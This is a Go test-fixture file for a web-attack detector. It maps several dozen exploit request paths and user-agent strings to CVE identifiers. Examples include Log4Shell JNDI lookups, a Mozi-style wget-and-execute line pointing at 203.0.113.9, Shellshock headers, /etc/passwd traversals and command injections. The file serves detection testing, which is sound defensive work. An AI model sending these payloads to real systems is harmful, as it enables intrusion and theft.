package webattacktest

import "github.com/tracewall/tracewall/shared/webattack"

// HolesByPath returns request targets that try known holes, as they stand in logs, and
// what the hole is called.
func HolesByPath() map[string]string {
	return map[string]string{
		"/?x=${jndi:ldap://203.0.113.9/a}": "CVE-2021-44228", "/$%7Bjndi:dns://x.example/%7D": "CVE-2021-44228", "/?x=${${lower:j}ndi:${lower:l}dap://x/a}": "CVE-2021-44228",
		"/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}": "CVE-2021-44228", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D": "CVE-2021-44228",
		"/solr/admin/cores?indexInfo=false&wt=json": "Apache Solr without authorisation", "/solr/core/config": "Apache Solr without authorisation", "/solr/core/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd": "Apache Solr without authorisation",
		"/solr/demo/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=1)": "CVE-2019-17558",
		"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php":                                "CVE-2017-9841", "/lib/phpunit/Util/PHP/eval-stdin.php": "CVE-2017-9841",
		"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo": "CVE-2018-20062", "/?s=index/think\\app/invokefunction": "CVE-2018-20062",
		"/index.php?+config-create+/&lang=../../../../usr/local/lib/php/pearcmd&/<?=1?>+/tmp/x.php": "CVE-2018-20062",
		"/GponForm/diag_Form?images/": "CVE-2018-10561",
		"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd": "CVE-2020-5902", "/vpn/../vpns/cfg/smb.conf": "CVE-2019-19781",
		"/autodiscover/autodiscover.json?@evil.com/owa/?&Email=autodiscover/autodiscover.json%3F@evil.com": "CVE-2021-34473", "/ecp/y.js": "CVE-2021-26855",
		"/ui/vropspluginui/rest/services/uploadova": "CVE-2021-21972", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=${x}": "CVE-2022-22954",
		"/hello.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input": "CVE-2024-4577", "/cgi-bin/php?-d+allow_url_include%3Don+-d+safe_mode%3Doff": "CVE-2012-1823", "/index.php?-s": "CVE-2012-1823",
		"/SDK/webLanguage": "CVE-2021-36260", "/System/configurationFile?auth=YWRtaW46MTEK": "CVE-2017-7921",
		"/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*": "Netgear setup.cgi", "/HNAP1/": "D-Link HNAP", "/boaform/admin/formLogin?username=a": "boaform",
		"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>/tmp/x)": "CVE-2023-1389", "/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15": "CVE-2024-3273",
		"/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x": "CVE-2022-22965", "/functionRouter": "CVE-2022-22963", "/actuator/gateway/routes": "CVE-2022-22947", "/actuator/heapdump": "Spring Boot actuator",
		"/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%29%7D/": "CVE-2022-26134", "/pages/createpage-entervariables.action": "CVE-2021-26084", "/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false": "CVE-2023-22515",
		"/struts2/index.action?redirect:${%23a%3d1}": "CVE-2017-5638", "/?x=%25{(%23_memberAccess=%23a)}": "CVE-2017-5638",
		"/cgi-bin/.%2e/.%2e/.%2e/bin/sh": "CVE-2021-41773", "/icons/.%2e/%2e%2e/etc/passwd": "CVE-2021-41773", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession": "CVE-2018-13379",
		"/dana-na/../dana/html5acc/guacamole/../../../etc/passwd": "CVE-2019-11510", "/api/v1/totp/user-backup-code/../../license/keys-status/;id": "CVE-2023-46805", "/ssl-vpn/hipreport.esp": "CVE-2024-3400", "/api/v2/cmdb/system/admin": "CVE-2022-40684",
		"/wls-wsat/CoordinatorPortType": "CVE-2017-10271", "/console/css/%252e%252e%252fconsole.portal": "CVE-2017-10271", "/invoker/JMXInvokerServlet": "JBoss invoker", "/_ignition/execute-solution": "Laravel Ignition",
		"/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity": "Jenkins script", "/api/index.php/v1/config/application?public=true": "CVE-2023-23752", "/user/register?mail[%23markup]=id": "CVE-2018-7600",
		"/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php": "CVE-2018-6389", "/public/plugins/alertlist/../../../../etc/passwd": "CVE-2021-43798", "/@fs/etc/passwd?raw??": "CVE-2025-30208",
		"/x?a={\"status\":\"resolved_model\"}": "CVE-2025-55182", "/api/setup/validate": "CVE-2023-38646", "/remote_agent.php?action=polldata&poller_id=;id": "CVE-2022-46169", "/app/rest/users/id:1/tokens/RPC2": "CVE-2023-42793", "/hax?jsp=/app/rest/server;.jsp": "CVE-2024-27198",
		"/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+/tmp/jaws": "Mozi", "/ws/v1/cluster/apps/new-application": "Hadoop YARN", "/v1.24/containers/json": "Docker API", "/api/v1/namespaces/kube-system/secrets": "Kubernetes API",
		"/picsdesc.xml": "CVE-2014-8361", "/ctrlt/DeviceUpgrade_1": "CVE-2017-17215", "/getcfg.php": "CVE-2015-2051", "/_async/AsyncResponseService": "CVE-2017-10271", "/mgmt/tm/util/bash": "CVE-2020-5902", "/wso.php": "web shell",
		"/kcfinder/upload.php": "kcfinder and editors", "/x?i=2.2250738585072011e-308": "CVE-2010-4645", "/ajax/render/widget_tabbedcontainer_tab_panel": "CVE-2019-16759", "/winbox/index": "CVE-2018-14847",
		"/timthumb.php?src=http://203.0.113.9/x.php": "WordPress timthumb", "/moveitisapi/moveitisapi.dll?action=m2": "CVE-2023-34362", "/oauth/idp/.well-known/openid-configuration": "CVE-2023-4966", "/language/Swedish${IFS}&&echo": "DVR", "/ztp/cgi-bin/handler": "Zyxel",
	}
}

// HolesByAgent returns user agents that do. They stand in Referers as well.
func HolesByAgent() map[string]string {
	return map[string]string{
		"() { :;}; /bin/bash -c 'cat /etc/passwd'": "CVE-2014-6271", "() { _; } >_[$($())] { id; }": "CVE-2014-6271",
		"Mozilla/5.0 ${jndi:ldap://x/a}": "CVE-2021-44228", "${${env:X:-j}ndi${env:X:-:}${env:X:-l}dap${env:X:-:}//x/a}": "CVE-2021-44228",
		`}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}`: "CVE-2015-8562",
	}
}

// KnownHoles returns a request for each of them.
func KnownHoles() []webattack.Request {
	var all []webattack.Request
	for path := range HolesByPath() {
		all = append(all, webattack.Request{Path: path, Agent: "Mozilla/5.0", Referer: "-"})
	}
	for agent := range HolesByAgent() {
		all = append(all, webattack.Request{Path: "/", Agent: agent, Referer: "-"}, webattack.Request{Path: "/", Agent: "Mozilla/5.0", Referer: agent})
	}
	return all
}
